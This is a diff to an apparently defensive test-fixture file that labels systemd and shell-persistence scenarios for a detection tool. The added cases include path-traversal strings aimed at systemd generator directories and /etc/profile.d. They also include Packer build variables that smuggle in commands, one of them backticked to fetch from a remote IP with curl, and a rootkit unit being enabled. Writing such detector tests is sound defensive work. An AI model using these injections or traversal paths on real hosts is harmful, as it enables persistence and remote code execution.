@@ -14,6 +14,22 @@ const layer = (path: string, grandparent = 'bash') =>
   wrote('root', path, 'python3', 'python3 /app/x.py', grandparent);
 const copy = (root: string) =>
   wrote('root', `${root}/${UNIT}`, 'sh', `sh -c cat /tmp/u > ${root}/${UNIT}`, 'runc');
+const generator = (way: string) =>
+  wrote(
+    'root',
+    `/usr/lib/systemd/system/${way}gen.service`,
+    'python3',
+    `/usr/bin/python3 /root/${MODULE.replace('_systemd', '_copy')}`,
+    'sh',
+  );
+const packer = (variable: string) =>
+  ran(
+    'packer',
+    'systemctl enable app',
+    'sh',
+    `sh -c chmod +x /tmp/script_4711.sh; ${variable} /tmp/script_4711.sh`,
+    'sshd-session',
+  );
 
 /** Names, accounts and places that are none of the tool's, and what a build cannot do. */
 export const quietPlaceScenarios = [
@@ -32,6 +48,11 @@ export const quietPlaceScenarios = [
     ['another root for the host', module('systemctl switch-root /opt/x /start')],
   ]),
   ...scenarios('ambiguous', 'place', [
+    ['a generator by way of the units', generator('../x/../system-generators/../system-generators/')],
+    ['a generator by way of a place beside', generator('../system-generators/x/../')],
+    ['a generator behind two slashes', generator('..//system-generators/')],
+    ['a generator of the session behind a dot', generator('.././user-generators/')],
+    ['a script of the shell', generator('../../../../etc//profile.d/')],
     ['what looks like a layer on a disk', layer(`/mnt/disk/overlay/rootfs/${UNIT}`)],
     ['what looks like a snapshot on a disk', layer(`/mnt/snapshots/1/fs/${UNIT}`)],
     ['what looks like a volume of btrfs', layer(`/mnt/btrfs/rootfs/${UNIT}`)],
@@ -51,6 +72,9 @@ export const maliciousPlaceScenarios = [
     ['a unit of a rootkit', module('systemctl enable --now reptile')],
     ["a job's script among uploads", job('/data/uploads/a@tmp/durable-1/script.sh')],
     ["a job's script among a site's files", job('/data/wwwroot/a@tmp/durable-1/script.sh')],
+    ['a variable of Packer with a command', packer('PACKER_BUILD_NAME="`/srv/x`"')],
+    ['a variable of Packer with another one', packer('PACKER_BUILD_NAME=$X')],
+    ['variables of Packer that run a program', packer('PACKER_BUILD_NAME="`curl 203.0.113.9/x`"')],
   ]),
   ...scenarios('malicious', 'place', [
     ["the host's root within a layer", layer(`${LAYER}/host/${UNIT}`)],
